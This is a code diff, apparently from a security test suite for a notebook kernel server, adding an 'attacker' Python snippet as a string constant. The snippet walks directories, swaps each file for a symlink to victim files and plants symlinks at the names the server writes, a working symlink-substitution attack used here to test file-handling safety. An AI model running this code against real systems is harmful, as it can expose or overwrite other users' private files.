@@ -172,3 +172,53 @@ def holding(files: dict[str, bytes], victims: list[Path]) -> list[str]:
     """Which files hold a victim's content."""
     secrets_ = [v.read_bytes() for v in victims]
     return [name for name, data in files.items() if any(s in data for s in secrets_)]
+
+
+#: Attacker's Python (in a kernel, or in a user's shell): ``swap_tree(tops, victims)``
+#: replaces every file below ``tops`` with a symlink to a victim and plants symlinks to
+#: them in every folder, at spare names and at the names the server writes
+#: (connection file, ipc sockets). ``report`` says what it did, for failure messages.
+LINK_SWAPPER = r"""
+import json, os
+report = {"replaced": [], "planted": 0, "errors": set()}
+
+def swap(path, target):
+    tmp = path + '.swap'
+    try:
+        os.symlink(target, tmp)
+        os.replace(tmp, path)
+        report["replaced"].append(path)
+    except OSError as err:
+        report["errors"].add(f"{path}: {err.strerror}")
+        try:
+            os.unlink(tmp)
+        except OSError:
+            pass
+
+def plant(folder, victims, first):
+    names = {'connection.json': first, 'kernel.json': first, 'k': first}
+    names.update({f'k-{i}': first for i in range(1, 6)})
+    for i, target in enumerate(victims + [os.path.dirname(v) for v in victims]):
+        names[f'planted-{i}'] = target
+    for name, target in names.items():
+        link = os.path.join(folder, name)
+        if os.path.lexists(link):
+            continue
+        try:
+            os.symlink(target, link)
+            report["planted"] += 1
+        except OSError as err:
+            report["errors"].add(f"{link}: {err.strerror}")
+
+def swap_tree(tops, victims, first, skip=()):
+    for top in tops:
+        for folder, dirs, files in os.walk(top):
+            for name in files:
+                path = os.path.join(folder, name)
+                if path not in skip and not name.startswith('planted-'):
+                    swap(path, victims[len(report["replaced"]) % len(victims)])
+            plant(folder, victims, first)
+
+def summary(**more):
+    return json.dumps({**report, "errors": sorted(report["errors"])[:20], **more})
+"""
